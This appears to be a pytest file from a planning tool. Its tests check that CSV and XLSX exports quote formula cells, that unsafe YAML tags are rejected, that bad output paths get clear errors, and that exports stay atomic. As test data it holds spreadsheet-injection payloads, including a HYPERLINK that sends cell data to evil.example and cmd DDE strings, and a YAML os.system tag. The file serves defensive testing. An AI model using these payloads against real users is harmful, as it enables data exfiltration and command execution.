"""Nothing in a cell runs: spreadsheet formulas, YAML tags and output paths.

(HTML/JS in every HTML output is tested with the views, in a real browser; Cypher fragments
with the Neo4j backend, on a real server.)
"""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from graphmodel.model import Plan
from loaders.base import read_plan, write_plan
from loaders.canonical import dump_yaml
from tests.conftest import ROOT, run_cli

# The payloads of spreadsheet-safety guidance (OWASP "CSV injection"), and cousins that a
# careless guard misses: a guard already present, a leading tab or carriage return.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
    "'=already guarded",
    "\t=1+1",
    "-",
    "- a bullet pasted from Word",
]


def payload_plan() -> Plan:
    return Plan.model_validate(
        {
            "area": "Exampleshire",
            "title": PAYLOADS[0],
            "findings": [
                {"ref": f"F{i}", "kind": "area_for_improvement", "text": text}
                for i, text in enumerate(PAYLOADS)
            ],
            "people": [{"ref": "p", "name": "@Ann", "post": "=Head of SEND"}],
            "actions": [
                {"ref": "A1", "text": "+Do it", "addresses": ["F0"], "owners": ["person:p"]}
            ],
        }
    )


def test_csv_export_guards_every_formula_and_reads_back_unchanged(tmp_path: Path) -> None:
    plan = payload_plan()
    write_plan(plan, tmp_path / "plan", "csv")
    cells = []
    for file in sorted((tmp_path / "plan").glob("*.csv")):
        text = file.read_text(encoding="utf-8-sig")
        cells += [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == [], "a spreadsheet would run these cells"
    for payload in PAYLOADS:  # each written once, behind one more guarding quote
        assert "'" + payload in cells, payload
    assert read_plan(tmp_path / "plan").plan_or_raise() == plan


def test_xlsx_export_holds_formulas_as_quoted_text_and_reads_back_unchanged(
    tmp_path: Path,
) -> None:
    plan = payload_plan()
    write_plan(plan, tmp_path / "plan.xlsx")
    book = load_workbook(tmp_path / "plan.xlsx")
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate} is a formula"
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} is not quoted"
                    seen += 1
    assert seen >= len(PAYLOADS) - 2
    assert read_plan(tmp_path / "plan.xlsx").plan_or_raise() == plan


def test_a_hand_made_csv_with_guarded_cells_reads_as_the_user_meant(tmp_path: Path) -> None:
    folder = tmp_path / "plan"
    folder.mkdir()
    (folder / "Findings.csv").write_text(
        "ref,kind,text\nF1,afi,'=SUM(A1)\nF2,afi,'Quoted on purpose\n", encoding="utf-8"
    )
    (folder / "Actions.csv").write_text("ref,action,addresses\nA1,Do it,F1\n", encoding="utf-8")
    plan = read_plan(folder).plan_or_raise()
    assert [f.text for f in plan.findings] == ["=SUM(A1)", "'Quoted on purpose"]


def test_yaml_tags_never_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    plan = tmp_path / "plan.yaml"
    plan.write_text(
        f"area: !!python/object/apply:os.system ['touch {marker}']\ntitle: t\n", encoding="utf-8"
    )
    code, out = run_cli("validate", str(plan))
    assert code == 2
    assert "python/object/apply" in out and not marker.exists()


@pytest.mark.parametrize(
    ("output", "message"),
    [
        ("missing/x.yaml", "missing does not exist; create the folder first"),
        ("plan.yaml/x.yaml", "plan.yaml is not a folder"),
        (".", "is a folder; give the name of the file to write"),
    ],
)
def test_output_paths_that_cannot_be_written_are_refused_clearly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, output: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "plan.yaml").write_text(dump_yaml(payload_plan()), encoding="utf-8")
    code, out = run_cli("export", "plan.yaml", "--to", "yaml", "-o", output)
    assert code == 2
    assert message in out and ".tmp" not in out and "Traceback" not in out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.yaml"]


def _big_plan(actions: int) -> Plan:
    return Plan.model_validate(
        {
            "area": "Bigshire",
            "title": "Big plan",
            "findings": [{"ref": "F1", "kind": "area_for_improvement", "text": "x"}],
            "actions": [
                {"ref": f"A{i}", "text": f"Action {i} " + "words " * 20, "addresses": ["F1"]}
                for i in range(actions)
            ],
        }
    )


@pytest.mark.parametrize("delay", [0.4, 0.8, 1.2, 1.6])
def test_an_export_killed_midway_leaves_the_old_file_whole(tmp_path: Path, delay: float) -> None:
    """SIGKILL an export at several moments: the target is the old file or the whole new one,
    never a part of either."""
    source = tmp_path / "big.yaml"
    source.write_text(dump_yaml(_big_plan(3000)), encoding="utf-8")
    target = tmp_path / "out.xlsx"
    write_plan(Plan.model_validate({"area": "Old", "title": "Old plan"}), target)
    old = target.read_bytes()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "actiongraph", "export", str(source), "-o", str(target)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(delay)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    after = target.read_bytes()
    if after != old:  # the export finished before the kill: the new file is whole
        assert len(read_plan(target).plan_or_raise().actions) == 3000
    else:
        assert read_plan(target).plan_or_raise().area == "Old"
